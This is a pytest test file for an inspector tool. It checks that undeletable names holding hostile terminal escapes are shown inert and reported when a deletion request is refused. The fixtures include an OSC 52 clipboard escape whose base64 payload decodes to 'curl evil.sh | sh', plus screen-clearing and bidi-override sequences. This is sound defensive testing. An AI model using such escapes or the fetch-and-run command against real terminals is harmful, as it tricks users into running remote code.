"""A name that keeps a deleted value (in this round's spellings) and also holds terminal escapes:
the refusal that names it stays inert in every output that shows it (hostile review nine).

A material id holding OSC 52 and the target's e-mail ROT13-ed, and a state key holding a bidi
override and the phone number in Chinese numerals, are copies no deletion can remove, so
``deletion`` lists them under ``kept`` and ``delete`` refuses ``copy_kept`` quoting them. Before
this round neither was seen (``delete`` said "done"); now both are named — in the plain output
(escapes made visible), in ``--json`` (the exact names, the document safe to print) and in the
app's deletion dialog.
"""

from __future__ import annotations

import codecs
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from inspector.cli.main import cli
from tests.conftest import write_sif
from tests.hostile import RAW_FORBIDDEN

AT = "2025-05-01T00:00:00Z"
SID = "s-kept-evil"
PHONE = "13912345678"
MAIL = "zq.hidden.person@example.org"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
MATERIAL = f"res:{OSC52}{codecs.encode(MAIL, 'rot13')}"
KEY = "contact.\u202e" + PHONE.translate(str.maketrans("0123456789", "〇一二三四五六七八九"))


def _records() -> list[dict[str, object]]:
    return [{"type": "session", "id": SID, "title": "t", "owner": "o", "created_at": AT},
               {"type": "event", "session": SID, "seq": 1, "kind": "user_message", "trust": "user", "at": AT,
                "content": f"call {PHONE} mail {MAIL}"},
               {"type": "event", "session": SID, "seq": 2, "kind": "tool_result", "trust": "tool", "at": AT,
                "content": "\x1b[2Jfetched\x07"},
               {"type": "material", "session": SID, "id": MATERIAL, "source_event": 2, "disclosure_scope": "task",
                "content": "page", "media_type": "text/plain", "retrieved_at": AT},
               {"type": "state", "session": SID, "key": KEY, "kind": "constraint", "value": "v", "writer": "user",
                "sources": ["evt:2"], "version": 1},
               {"type": "deletion_request", "session": SID, "id": "del-1", "targets": ["evt:1"],
                "requested_by": "user", "reason": "mine"}]


def _named(text: str) -> bool:
    """Both kept names are in ``text``, their escapes made visible (one inert form, as the app's:
    ``␛``, ``⟨U+202E⟩`` — not Python's ``\\x1b`` beside them, flow-ten)."""
    return ("␛]52;c;" in text and codecs.encode(MAIL, "rot13") in text
            and "contact.⟨U+202E⟩一三九一二三四五六七八" in text)


def _store(tmp_path: Path) -> Path:
    store = tmp_path / "s.db"
    assert CliRunner().invoke(cli, ["import", str(write_sif(tmp_path / "in.jsonl", _records())), "--into",
                                    str(store)]).exit_code == 0
    return store


def test_the_cli_names_each_kept_name_inert(tmp_path: Path) -> None:
    store = _store(tmp_path)
    runner = CliRunner()
    listing = runner.invoke(cli, ["deletion", str(store), "del-1", "--json"])
    assert {k["name"] for k in json.loads(listing.stdout)["kept"]} >= {MATERIAL, KEY}  # exact, in JSON
    for args in (["deletion", str(store), "del-1"], ["delete", str(store), "del-1", "--reviewer", "r"]):
        for extra in ([], ["--json"]):
            result = runner.invoke(cli, [*args, *extra])
            assert [raw for raw in RAW_FORBIDDEN if raw in result.output] == [], (args, extra)
    refused = runner.invoke(cli, ["delete", str(store), "del-1", "--reviewer", "r"])
    assert refused.exit_code == 1 and "copy_kept" in refused.output
    assert _named(refused.output)


async def test_the_deletion_dialog_names_each_kept_name_inert(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from textual.widgets import Static

    from inspector.services.importing import import_file
    from inspector.ui.app import InspectorApp
    from inspector.ui.deletion_dialog import DeletionDialog
    from tests.test_app import settle
    from tests.test_hostile_app import assert_inert

    monkeypatch.setenv("INSPECTOR_REVIEWER", "o")
    store = tmp_path / "s.db"
    await import_file(write_sif(tmp_path / "in.jsonl", _records()), store, actor="o")
    app = InspectorApp(store, session=SID)
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(app, pilot)
        await pilot.press("x", "enter")
        await settle(app, pilot)
        assert isinstance(app.screen, DeletionDialog)
        text = str(app.screen.query_one("#deletion-text", Static).render())
        assert "copy_kept" in text and _named(text), text
        assert_inert(app, "deletion dialog with hostile kept names")
